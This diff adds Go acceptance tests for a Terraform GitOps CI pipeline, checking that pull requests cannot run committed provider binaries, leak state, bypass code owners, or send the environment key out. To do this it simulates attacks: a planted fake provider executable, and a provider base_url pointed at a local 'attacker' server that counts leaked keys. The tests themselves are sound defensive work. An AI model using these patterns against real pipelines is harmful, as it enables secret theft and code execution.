@@ -1,0 +1,126 @@
+// SPDX-License-Identifier: MPL-2.0
+
+package documents_test
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"net/http/httputil"
+	"net/url"
+	"os"
+	"path/filepath"
+	"runtime"
+	"slices"
+	"strings"
+	"sync/atomic"
+	"testing"
+)
+
+// TestAccGitops_reviewer runs no program that a pull request brings as the reviewer.
+func TestAccGitops_reviewer(t *testing.T) {
+	t.Parallel()
+	p := appliedPipeline(t)
+	for _, host := range []string{"0", "registry.terraform.io", "registry.opentofu.org"} {
+		program := filepath.Join("production", ".terraform", "providers", host, "terraform-payments", "payments", "1.0.0",
+			runtime.GOOS+"_"+runtime.GOARCH, "terraform-provider-payments")
+		p.cli.Write(program, "#!/bin/sh\ntouch "+quote(filepath.Join(p.dir, "ran"))+"\nexit 0\n")
+		if err := os.Chmod(filepath.Join(p.cli.Dir, program), 0o700); err != nil { //nolint:gosec // a program
+			t.Fatal(err)
+		}
+	}
+	p.git("add", "-f", "production/.terraform")
+	p.edit("production/main.tf", oldPage, newPage)
+	for name, job := range map[string]func(){
+		"pull request":   func() { p.must(p.pull().Result) },
+		"merge":          func() { p.must(p.pull().Result); p.must(p.merge("").Result) },
+		"drift":          func() { p.must(p.github("drift.yml", "drift", map[string]string{}, nil).Result) },
+		"merge request":  func() { p.must(p.request().Result) },
+		"plan, Atlantis": func() { p.must(p.atlantis(p.clone(), "plan", "")) },
+	} {
+		job()
+		if p.has("ran") {
+			t.Fatalf("%s: the committed program ran", name)
+		}
+	}
+	// The lock file chooses the version of the reviewer.
+	p.edit("ci/review.sh", "least=1.0.0", "least=1.0.1")
+	p.refused(p.pull().Result, "has version 1.0.0 of the provider, whose review is too old. Upgrade it to 1.0.1 or newer.")
+}
+
+// TestAccGitops_sandboxAlone leaves nothing of the sandbox at a desk: its state and its backend would
+// be those of the next plan.
+func TestAccGitops_sandboxAlone(t *testing.T) {
+	t.Parallel()
+	p := forkedPipeline(t)
+	p.cli.Write("production/new.tf", "# not committed\n")
+	result := p.run(p.cli.Dir, map[string]string{"TF_CLI_ARGS_init": "-backend-config=path=" + p.state()}, "ci/sandbox.sh production HEAD^ || [ $? -eq 3 ]")
+	p.must(result)
+	if status := p.git("status", "--short", "--ignored"); status != "?? production/new.tf\n!! review/" {
+		t.Errorf("it left\n%s", status)
+	}
+	for _, file := range []string{"terraform.tfstate", "terraform.tfstate.backup", "errored.tfstate", "plan.tfplan"} {
+		p.cli.Write("production/"+file, "")
+	}
+	if status := p.git("status", "--short"); status != "?? production/new.tf" {
+		t.Errorf("git would commit\n%s", status)
+	}
+}
+
+// TestAccGitops_owners requires owners of the files that decide over a review, and of no others. Git's
+// patterns of ignored files are those of owners.
+func TestAccGitops_owners(t *testing.T) {
+	t.Parallel()
+	p := newPipeline(t, "")
+	p.must(p.run(p.cli.Dir, nil, `sed 's/ *@.*//' CODEOWNERS > `+quote(filepath.Join(p.dir, "owned"))))
+	for path, want := range map[string]bool{
+		".github/workflows/plan.yml": true, ".github/CODEOWNERS": true, ".gitlab-ci.yml": true, "CODEOWNERS": true, "atlantis.yaml": true,
+		"ci/review.sh": true, "policy/review.rego": true, "review.hcl": true, "production/.terraform.lock.hcl": true,
+		"production/.terraform/providers/0/x": true, "production/.terraformrc": true, "production/backend.tf": true,
+		"production/override.tf": true, "production/x_override.tf": true, "production/x_override.tf.json": true, "payouts/payments.tf": true,
+		"checks/backend.tf":  true,
+		"production/main.tf": false, "modules/shop/main.tf": false, "README.md": false,
+	} {
+		excludes := "core.excludesFile=" + filepath.Join(p.dir, "owned")
+		owned := p.run(p.cli.Dir, nil, "rm -f .gitignore; git -c "+quote(excludes)+" check-ignore -q --no-index "+quote(path)).Code == 0
+		if owned != want {
+			t.Errorf("%s has an owner: %t, want %t", path, owned, want)
+		}
+	}
+}
+
+// TestAccGitops_attacker sends the key of the environment to no host that a pull request names.
+func TestAccGitops_attacker(t *testing.T) {
+	t.Parallel()
+	p := appliedPipeline(t)
+	account, err := url.Parse(p.service.URL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// It passes everything through, so that nothing else fails.
+	var requests, keys atomic.Int64
+	proxy := httputil.NewSingleHostReverseProxy(account)
+	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		requests.Add(1)
+		for _, values := range r.Header {
+			if slices.ContainsFunc(values, func(value string) bool { return strings.Contains(value, p.service.Key()) }) {
+				keys.Add(1)
+			}
+		}
+		proxy.ServeHTTP(w, r)
+	}))
+	t.Cleanup(attacker.Close)
+	p.edit("production/main.tf", "provider \"payments\" {\n", "provider \"payments\" {\n  base_url        = \""+attacker.URL+"\"\n")
+	p.edit("modules/shop/main.tf", "= 89\n", "= 91\n")
+	plan := p.pull()
+	// Somebody overlooks the failed plan.
+	p.store("successes", p.head()+" "+p.id()+"\n")
+	apply := p.merge("")
+	for job, result := range map[string]ran{"the plan": plan, "the apply": apply} {
+		if result.Code == 0 {
+			t.Errorf("%s is not refused", job)
+		}
+	}
+	if keys.Load() != 0 {
+		t.Errorf("%d of %d requests brought the key to the attacker", keys.Load(), requests.Load())
+	}
+}
